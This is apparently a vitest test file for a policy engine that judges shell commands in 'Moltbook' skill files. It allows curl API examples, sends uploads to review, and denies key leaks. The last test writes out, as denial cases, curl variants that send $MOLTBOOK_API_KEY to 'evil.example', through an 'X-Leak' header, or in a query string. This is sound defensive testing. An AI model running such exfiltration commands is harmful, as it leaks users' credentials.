// The real Moltbook skill files under --policy moltbook: every install and API example is
// allowed, except the -F file=@… uploads, which need review.
import { readFileSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { loadPolicy } from "../../src/policy/index.js";
import type { Policy } from "../../src/policy/types.js";
import { corpusRoot, judge, shellReady } from "./policy-helpers.js";

/** Shell-looking fenced blocks (```bash/sh or unlabeled ones starting with curl/mkdir). */
function shellBlocks(text: string): string[] {
  const blocks: string[] = [];
  const re = /^```([a-z]*)\n([\s\S]*?)^```/gm;
  for (let m = re.exec(text); m; m = re.exec(text)) {
    const lang = m[1] as string;
    const body = m[2] as string;
    const first = body.split("\n").find((l) => l.trim() !== "" && !l.startsWith("#")) ?? "";
    if (["bash", "sh", "shell", ""].includes(lang) && /^(curl|mkdir)\b/.test(first)) blocks.push(body);
  }
  return blocks;
}

const dir = path.join(corpusRoot, "benign/moltbook");
let policy: Policy;
beforeAll(async () => {
  await shellReady();
  policy = await loadPolicy("moltbook");
});

describe("moltbook policy on the real skill files", () => {
  for (const file of ["c2d8e44c_SKILL.md", "c2d8e44c_HEARTBEAT.md", "c2d8e44c_MESSAGING.md"]) {
    it(`${file}: install and API examples are allowed, uploads need review`, () => {
      const blocks = shellBlocks(readFileSync(path.join(dir, file), "utf8"));
      expect(blocks.length).toBeGreaterThan(0);
      for (const block of blocks) {
        const judged = judge(block, policy);
        const expected = /\s-F\s/.test(block) ? "review" : "allow";
        expect(judged.verdict, `${block}\n→ ${judged.rule}: ${judged.reason}`).toBe(expected);
        if (expected === "review") expect(judged.rule).toBe("moltbook-upload");
      }
    });
  }
  it("SKILL.md has the five install commands and about forty API examples", () => {
    const blocks = shellBlocks(readFileSync(path.join(dir, "c2d8e44c_SKILL.md"), "utf8"));
    const install = blocks.find((b) => b.startsWith("mkdir"));
    expect(install?.trim().split("\n")).toHaveLength(5);
    expect(blocks.length).toBeGreaterThanOrEqual(40);
  });
  it("the API key reaches only www.moltbook.com, only in the Authorization header", () => {
    const key = 'curl https://www.moltbook.com/api/v1/agents/me -H "Authorization: Bearer $MOLTBOOK_API_KEY"';
    const ok = judge(key, policy);
    expect(ok.verdict).toBe("allow");
    expect(ok.commands[0]?.env).toEqual(["MOLTBOOK_API_KEY"]);
    expect(ok.commands[0]?.hosts).toEqual([{ host: "www.moltbook.com", port: 443, scheme: "https" }]);
    expect(judge(key.replace("www.moltbook.com", "moltbook.com"), policy).verdict).toBe("deny");
    expect(judge(key.replace("www.moltbook.com", "evil.example"), policy).verdict).toBe("deny");
    expect(judge(key.replace("Authorization: Bearer", "X-Leak:"), policy).verdict).toBe("deny");
    expect(judge(`curl "https://www.moltbook.com/api/v1/search?q=$MOLTBOOK_API_KEY"`, policy).verdict).toBe(
      "deny",
    );
  });
});
